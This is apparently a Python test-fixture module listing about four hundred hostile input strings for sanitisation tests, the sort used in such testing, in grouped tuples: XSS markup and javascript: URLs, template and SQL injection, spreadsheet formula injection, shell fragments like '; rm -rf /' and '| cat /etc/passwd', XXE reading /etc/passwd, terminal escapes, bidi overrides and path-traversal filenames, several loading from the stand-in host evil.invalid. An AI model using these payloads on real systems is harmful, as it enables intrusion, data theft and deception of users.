"""Some four hundred strings that nobody should have to think of: what breaks out of a page, a script, a sheet, a drawing,
a terminal or the name of a file. Whatever of them runs sets `window.__ran`; what loads asks `evil.invalid`.

All are invented here. `STRINGS` is in a fixed order; `tests/hostile_record.py` puts them into every field.
"""

from __future__ import annotations

RUN = "window.__ran=1"
HOST = "evil.invalid"

MARKUP = (
    f"<script>{RUN}</script>", f"</script><script>{RUN}</script>", f"<SCRIPT SRC=//{HOST}/x.js></SCRIPT>",
    f"<script src='https://{HOST}/x.js'></script>", f"<img src=x onerror={RUN}>", f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>", f"<img src=x onerror=`{RUN}`>", f"<svg onload={RUN}>", f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>", f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><set attributeName=href to=javascript:{RUN}>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></iframe></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>", f"<math><mi xlink:href='data:text/html,<script>{RUN}</script>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>", f"<body onload={RUN}>", f"<iframe src='javascript:{RUN}'>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>", f"<object data='javascript:{RUN}'>", f"<embed src='//{HOST}/x.svg'>",
    f"<link rel=stylesheet href=//{HOST}/x.css>", "<base href='//evil.invalid/'>", f"<meta http-equiv=refresh content='0;url=//{HOST}'>",
    "<meta http-equiv='Content-Security-Policy' content=\"script-src 'unsafe-inline'\">", f"<form action=//{HOST}><input type=submit>",
    f"<input autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>", f"<video src=x onerror={RUN}>",
    f"<audio src=x onerror={RUN}>", f"<video poster=//{HOST}/p.png>", f"<marquee onstart={RUN}>", f"<a href='javascript:{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>", f"<button popovertarget=x onbeforetoggle={RUN}>", f"<x onclick={RUN}>",
    f"<x onanimationstart={RUN} style='animation:a'>", f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<textarea></textarea><img src=x onerror={RUN}>",
    f"</textarea><img src=x onerror={RUN}>", f"</title><script>{RUN}</script>", f"</style><script>{RUN}</script>",
    f"</desc></svg><script>{RUN}</script>", f"</option></select><img src=x onerror={RUN}>", f"</bdi></td></table><img src=x onerror={RUN}>",
    f"</head><body><script>{RUN}</script>", f"<plaintext onclick={RUN}>", "<plaintext>", "<xmp>", "<listing>", "<noembed>", "<frameset>",
    f"<!--<img src=x onerror={RUN}>-->", f"--><script>{RUN}</script>", f"--!><script>{RUN}</script>", f"<!--><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>", f"]]><script>{RUN}</script>", f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<?php {RUN} ?>", f"<%= {RUN} %>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<!DOCTYPE x [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;'>]>&b;", f"<<script>{RUN}//<</script>", f"<scr<script>ipt>{RUN}</script>",
    f"<script\x0b>{RUN}</script>", f"<img\x0csrc=x\x0conerror={RUN}>", f"<img/src=x/onerror={RUN}//", f"<img src=x onerror\x00={RUN}>",
    f"<\x00script>{RUN}</script>", f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&amp;lt;script&amp;gt;{RUN}", "&", "&amp", "&#0;", "&#x110000;", "&nosuch;", "&#x202e;rev", "<", ">", "<>", "</", "<!--", "-->",
    "]]>", "<![CDATA[", "<?", "<!", f"\u00bcscript\u00be{RUN}\u00bc/script\u00be", f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", "<dialog open>", "<slot name=x>", "<p is=x-y>", "<style>*{display:none}</style>",
    f"<style>@import '//{HOST}/x.css';</style>", "<b hidden>", "<td colspan=99999>", "<h1>", "<li>", "<bdo dir=rtl>", "</main>", "</body></html>",
    f"<use href='//{HOST}/x.svg#x'/>", f"<image href='//{HOST}/x.png'/>", "<marker id='x'>", f"<script type=module>{RUN}</script>",
    f"<script type=importmap>{{\"imports\":{{\"a\":\"//{HOST}\"}}}}</script>", f"<link rel=modulepreload href=//{HOST}/x.js>",
)  # fmt: skip

ATTRIBUTES = (
    f'" onmouseover="{RUN}', f"' onmouseover='{RUN}", f"` onmouseover=`{RUN}", f"x onmouseover={RUN} y", f'" autofocus onfocus="{RUN}" x="',
    f'"/><script>{RUN}</script>', f"' style='background:url(//{HOST}/x)' x='", '" style="position:fixed;inset:0" x="', '" id="main" x="',
    '" class="banner', '" dir="rtl', '" lang="xx"><b>', '" hidden x="', '" tabindex="1', '" aria-hidden="true', '" target="_top', '"',
    "'", "`", "\\", '\\"', "\\'", '""', "''", "a\"b'c`d", "=", "/>", "a b\tc\nd", "id with spaces", "#main", "a#b#c", "?x=1&y=<2>",
    "a%22b", "%3Cscript%3E", "%00", "%2e%2e%2f", "%", "%zz", "a;b", "a&b", "main", "figures", "words", "said", "constructor",
    "__proto__", "toString", "hasOwnProperty", "prototype", "valueOf", "then", "length", "name", "innerHTML", "default",
)  # fmt: skip

ADDRESSES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f"java\0script:{RUN}",
    f"\x01javascript:{RUN}", f"javascript&colon;{RUN}", f"javascript&#58;{RUN}", f"javascript\uff1a{RUN}", f"view-source:javascript:{RUN}",
    f"https://javascript:{RUN}", f"http://x\njavascript:{RUN}", f"vbscript:{RUN}", f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==", f"data:image/svg+xml,<svg onload='{RUN}'/>", "blob:https://x/1",
    "file:///etc/passwd", "filesystem:http://x/", f"//{HOST}/", f"\\\\{HOST}\\share", f"/\\{HOST}", f"https:{HOST}", f"http:///{HOST}",
    f"https://{HOST}@good.example/", "https://good.example@evil.invalid/", "https://[::1]/", "https://127.1/", "http://[", "http://]",
    "https://xn--80ak6aa92e.com/", "https://аррlе.example/", "https://e\u0131vil.example/", f"https://{HOST}/\" onclick=\"{RUN}",
    f"https://{HOST}/'onclick='{RUN}", f"https://{HOST}/<script>{RUN}</script>", "https://x.example/\u202egnp.exe", "https://x.example/a b",
    "mailto:a@b.example?bcc=c@d.example", "tel:+1", "ftp://x.example/", "intent://x#Intent;end", "about:blank", "HTTPS://X.EXAMPLE/",
    "https://x.example/%0d%0aSet-Cookie:x=1", "https://x.example/\r\nSet-Cookie: x=1", "http://user:password@x.example/",
    "#javascript:", "?", "//", "://", "https://", "http:", ":", "h\u200bttps://x.example/",
)  # fmt: skip

PROGRAMS = (
    "{{ title }}", "{{ 7|add:'7' }}", "{% include 'base.html' %}", "{% for x in y %}", "{% endblock %}", "{% if %}", "{#", "#}", "{{", "}}",
    "{%", "%}", "{% load static %}", "{% debug %}", "{% csrf_token %}", "{0}", "{title}", "{n}", "{a} {b}", "{self.__class__}", "{}", "{",
    "}", "%s %d %(x)s", "${7*7}", "$(id)", "`id`", "#{7*7}", "<%= 7*7 %>", "[[7*7]]", "\\u003cscript\\u003e", "\\x3cscript\\x3e",
    f'"}};{RUN};//', f"'-{RUN}-'", f'"-{RUN}-"', f"\\';{RUN}//", f"`${{{RUN}}}`", f"*/{RUN}/*", f"//\n{RUN}", "\u2028window.__ran=1",
    "\u2029window.__ran=1", f"1;{RUN}", "'; DROP TABLE incidents; --", "' OR '1'='1", "*)(uid=*", "; rm -rf /", "| cat /etc/passwd",
    "$HOME", "!x", "&& id", "\\n", "\\", '{"a":1}', "[1,2", '","x":"', '":{"', "null", "true", "NaN", "Infinity", "-0", "1e999",
    "undefined", "[object Object]", f"expression({RUN})", f"url(javascript:{RUN})", f"}}*{{background:url(//{HOST}/x)}}", "\\3c script\\3e",
    "\\000022", "/*", "*/", ";}", f"@import url(//{HOST}/x.css);", "red;position:fixed", "calc(1px*", "var(--x)", f"url(#x) url(//{HOST})",
    "M0 0L1 1\" onload=\"", "translate(0)\"><script>",
)  # fmt: skip

SHEETS = (
    "=1+1", "=HYPERLINK(\"https://evil.invalid\",\"x\")", "=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", " =1", "\n=1",
    ";=1", ",=1", '"=1', "'=1", "\uff1d1", "\ufeff=1", "\u200f=1", "\u00a0=1", "=1\n=2", '"', '""', '","', '"\n"', "a,b;c\td|e", "a\rb",
    "a\r\nb", "a\nb", ",,,,", "\n\n\n", "0012", "1/2", "1-2", "1e5", "-5", "TRUE", "#REF!", "DDE(\"x\",\"y\")", "%0A=1",
)  # fmt: skip

PAPERS = (
    "}", "{", "},\n@misc{x", "\\input{/etc/passwd}", "\\write18{id}", "% comment", "$x^2$", "a_b & c # d", "~", "^", "@string{x=1}",
    "title = {", "\\\\", "\\%", "{\\'e", "\\begin{document}", "[x](javascript:window.__ran=1)", "![x](//evil.invalid/x)", "# heading",
    "***", "<https://evil.invalid>", "|a|b|", "Content-Type: text/html\r\n\r\n<script>",
)  # fmt: skip

CONTROLS = (
    "\0", "a\0b", "\x01\x02\x03", "\x07bell", "\x08\x08\x08back", "\x0bvt", "\x0cff", "\x1b[2J", "\x1b[31mred", "\x1b]0;title\x07",
    "\x1b]8;;https://evil.invalid\x1b\\x\x1b]8;;\x1b\\", "\x1b]52;c;eA==\x07", "\x1bP+q544e\x1b\\", "\x1bc", "\x9b31m", "\x9d0;t\x9c",
    "\x90q\x9c", "\x1b[8m hidden", "\x1b[1A\x1b[2K", "\x0e\x0f", "\x7fdel", "\x80\x81", "\x85next", "a\rb", "fine\rFORGED", "a\x1fb", "\x1a",
    "\ufffe", "\uffff", "\ufdd0", "\U0001fffe", "\U0010ffff", "\ue000", "\ud800", "\udfff", "a\ud83db", "\udc00\ud800", "\ufffd", "\ufeff",
    "a\ufeffb", "\u00ad", "\u200b", "\u200b\u200b\u200b", "\u200c\u200d", "\u2060", "\u180e", "\u3164", "\u00a0", "\u2028", "\u2029", "\n",
    "\r\n", "\t", " ", "   x   ", "line\nline\nline", "\ufff9a\ufffab\ufffb", "\U000e0041\U000e0042", "\u034f", "\ufe0f", "\u206a\u206f",
)  # fmt: skip

BIDI = (
    "\u202e", "\u202eabc", "\u202dabc", "\u202aabc", "\u202babc", "\u202c", "\u202c\u202c\u202c", "\u2066abc", "\u2067abc", "\u2068abc",
    "\u2069", "\u2069\u2069\u2069", "\u2069\u202e12", "\u202e\u2066", "\u2067\u202e\u2069", "\u202a" * 130, "\u2067" * 130, "\u200e",
    "\u200f", "\u061c", "killed \u202e21\u202c", "killed 12 \u202e", "photo\u202egnp.exe", "\u202ecod.exe", "a\u2067b\u2069c\u202ed",
    "قتل 12 \u202d(34", "שלום \u202babc", "\u202e<script>\u202c", "\u2067\n\u2069", "\u202e\n12 34", "\u202b\u202d\u202e\u2066\u2067\u2068",
    "‏=1+1", "\u202eقتل\u202c killed 5", "abc \u2066قتل 3", "\u2068\u202c\u2069",
)  # fmt: skip

NAMES = (
    ".", "..", "...", "../", "../../../../etc/passwd", "..\\..\\x", "/etc/passwd", "\\", "C:\\x", "C:", "x:y", "a/b", "a\\b", "a\u2215b",
    "a\u2044b", "\uff0fx", "\uff0e\uff0e\uff0fx", "\u2024\u2024/x", "CON", "con", "PRN", "AUX", "NUL", "nul.html", "COM1", "lpt9.txt",
    "CONIN$", "aux.json", "com¹", "desktop.ini", "Thumbs.db", ".htaccess", ".git", "-rf", "--help", "~", "~root", "$x", "*", "?", "a?b",
    "a|b", "<a>", "a.", "a ", " a", "a..", "a.html", "index", "index.html", "INDEX", "style.css", "cairn-site.json", "assets", "en", "ar",
    "x" * 255, "y" * 300, "ن" * 200, "x/" * 60, "a\0.html", "a\n.html", "naïve", "nai\u0308ve", "ﬁle", "ﬀ", "ß", "SS", "İ", "ı", "K", "K",
    "%2e%2e", "%2fetc", "..%2f", "..;/", "file.exe\u202etxt", "x.php", "x.svg", "x.js", "undated", "unknown", "from-1", "said", "conceded",
    "\U0001f480", "́", "🏴\U000e0067\U000e007f", "अ", "中", "tab\there", "NP000", "np000", "gone-1", "1", "0", "-1", "x--y", "------",
)  # fmt: skip

FLOODS = (
    "a" + "\u0301" * 300, "Z" + "\u0335\u0321\u0489" * 60, "ق" + "\u0651\u064b" * 120, "e" + "\u20dd" * 50, "w" * 5000, "word " * 900,
    "قتل" * 900, "\u200d".join("👩👩👧👦" * 20), "\ufdfd" * 60, "<" * 500, '"' * 500, "&" * 500, "\n" * 300, "(" * 400, "ﷺ" * 100,
    "\u202e" + "x" * 2000, "a\u200bb" * 400, "0" * 400, "9" * 400, "\t" * 300,
)  # fmt: skip

STRINGS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (*MARKUP, *ATTRIBUTES, *ADDRESSES, *PROGRAMS, *SHEETS, *PAPERS, *CONTROLS, *BIDI, *NAMES, *FLOODS)
    )
)
